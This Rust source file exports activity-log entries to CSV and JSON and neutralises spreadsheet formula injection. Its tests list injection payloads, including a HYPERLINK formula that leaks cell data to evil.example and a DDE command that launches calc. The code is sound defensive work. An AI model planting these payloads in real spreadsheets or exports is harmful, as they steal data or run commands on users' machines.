//! The record **exported**, for spreadsheets and for programs.
//!
//! Rule: an entry holds no secret, so neither does an export. Names and details may come from servers
//! and files, and a spreadsheet runs what looks like a formula: such a field is made text.

use serde::{Deserialize, Serialize};
use specta::Type;
use time::OffsetDateTime;
use time::format_description::well_known::Rfc3339;

use super::{ActivityEntry, Outcome};

/// The form of an export.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, Type)]
#[serde(rename_all = "lowercase")]
pub enum ExportForm {
    /// Comma-separated values (RFC 4180) with a header line.
    Csv,
    /// A JSON array of objects, named as in the page's own replies.
    Json,
}

impl ExportForm {
    /// The ending of a file of this form.
    pub fn extension(self) -> &'static str {
        match self {
            Self::Csv => "csv",
            Self::Json => "json",
        }
    }

    /// Writes entries in this form, in their order.
    pub fn write(self, entries: &[ActivityEntry]) -> String {
        match self {
            Self::Csv => csv(entries),
            Self::Json => {
                let mut text = serde_json::to_string_pretty(entries).expect("entries are plain text and times");
                text.push('\n');
                text
            }
        }
    }
}

/// RFC 4180 §2: lines end with CR LF, the first names the columns.
fn csv(entries: &[ActivityEntry]) -> String {
    let mut text = "at,deed,outcome,error_code,environment,service_user,detail\r\n".to_owned();
    for entry in entries {
        let at = moment(entry.at);
        let fields = [
            at.as_str(),
            entry.deed.as_str(),
            match entry.outcome() {
                Outcome::Done => "done",
                Outcome::Failed => "failed",
            },
            entry.error_code.as_deref().unwrap_or_default(),
            &entry.environment_name,
            &entry.service_user_name,
            &entry.detail,
        ];
        text.push_str(&fields.map(field).join(","));
        text.push_str("\r\n");
    }
    text
}

fn moment(at: OffsetDateTime) -> String {
    at.format(&Rfc3339).unwrap_or_else(|_| at.unix_timestamp().to_string())
}

/// One field: text that a spreadsheet would run begins with an apostrophe, which it takes for "this is
/// text"; what RFC 4180 §2 wants quoted is quoted.
fn field(value: &str) -> String {
    let value = if runs(value) { format!("'{value}") } else { value.to_owned() };
    if value.contains(['"', ',', '\r', '\n']) || value.starts_with('\'') {
        return format!("\"{}\"", value.replace('"', "\"\""));
    }
    value
}

/// Whether a spreadsheet may take a field for a formula. Leading blanks and controls are passed over, as
/// some programs trim them; the wide forms of the signs count, as some programs fold them.
fn runs(value: &str) -> bool {
    let begins = value.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || is_invisible(c));
    begins.starts_with(['=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}', '\u{2212}'])
        || value.starts_with(['\t', '\r', '\n'])
}

fn is_invisible(c: char) -> bool {
    matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2064}' | '\u{FEFF}')
}

#[cfg(test)]
mod tests {
    use time::macros::datetime;

    use super::*;
    use crate::activity::Deed;

    fn entry(name: &str, detail: &str, error_code: Option<&str>) -> ActivityEntry {
        ActivityEntry {
            at: datetime!(2026-11-23 14:37:02 UTC),
            deed: Deed::Mint,
            environment: None,
            environment_name: "Acme".into(),
            service_user: None,
            service_user_name: name.into(),
            error_code: error_code.map(str::to_owned),
            detail: detail.into(),
        }
    }

    /// Reads CSV as RFC 4180 §2 has it.
    fn read(text: &str) -> Vec<Vec<String>> {
        let (mut rows, mut row, mut value, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
        let mut chars = text.chars().peekable();
        while let Some(c) = chars.next() {
            match (quoted, c) {
                (true, '"') if chars.peek() == Some(&'"') => value.push(chars.next().expect("it was seen")),
                (true, '"') => quoted = false,
                (true, _) => value.push(c),
                (false, '"') if value.is_empty() => quoted = true,
                (false, ',') => row.push(std::mem::take(&mut value)),
                (false, '\r') if chars.peek() == Some(&'\n') => {
                    chars.next();
                    row.push(std::mem::take(&mut value));
                    rows.push(std::mem::take(&mut row));
                }
                (false, _) => value.push(c),
            }
        }
        assert!(value.is_empty() && row.is_empty() && !quoted, "the text ends with its last line");
        rows
    }

    #[test]
    fn csv_reads_back_as_it_was() {
        let odd = "a \"b\", c\r\nd;\té\u{202E}";
        let text = ExportForm::Csv.write(&[entry("deploy-bot", odd, None), entry("", "", Some("clock-ahead"))]);
        let rows = read(&text);
        assert_eq!(rows[0], ["at", "deed", "outcome", "error_code", "environment", "service_user", "detail"]);
        assert_eq!(rows[1], ["2026-11-23T14:37:02Z", "mint", "done", "", "Acme", "deploy-bot", odd]);
        assert_eq!(rows[2], ["2026-11-23T14:37:02Z", "mint", "failed", "clock-ahead", "Acme", "", ""]);
        assert_eq!(rows.len(), 3);
    }

    #[test]
    fn what_a_spreadsheet_would_run_is_text() {
        let check = |value: &str, expected: &str| {
            let rows = read(&ExportForm::Csv.write(&[entry(value, "", None)]));
            assert_eq!(rows[1][5], expected, "{value:?}");
        };
        for formula in [
            "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
            "+1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1)",
            " =1",
            "\t=1",
            "\r\n=1",
            "\u{FEFF}=1",
            "\u{202E}=1",
            "\u{FF1D}1",
            "\u{2212}1",
            "\tx",
        ] {
            check(formula, &format!("'{formula}"));
        }
        for plain in ["deploy-bot", "a=b", "1-2", "", "'quoted'", "ß", "100%"] {
            check(plain, plain);
        }
    }

    #[test]
    fn json_names_every_member_and_keeps_text_as_it_is() {
        let text = ExportForm::Json.write(&[entry("=1", "\u{202E}\"", Some("refused"))]);
        let read: Vec<ActivityEntry> = serde_json::from_str(&text).expect("it is JSON");
        assert_eq!(read, [entry("=1", "\u{202E}\"", Some("refused"))]);
        for name in
            ["at", "deed", "environment", "environmentName", "serviceUser", "serviceUserName", "errorCode", "detail"]
        {
            assert!(text.contains(&format!("\"{name}\":")), "{name}");
        }
        assert_eq!(ExportForm::Json.write(&[]), "[]\n");
    }
}
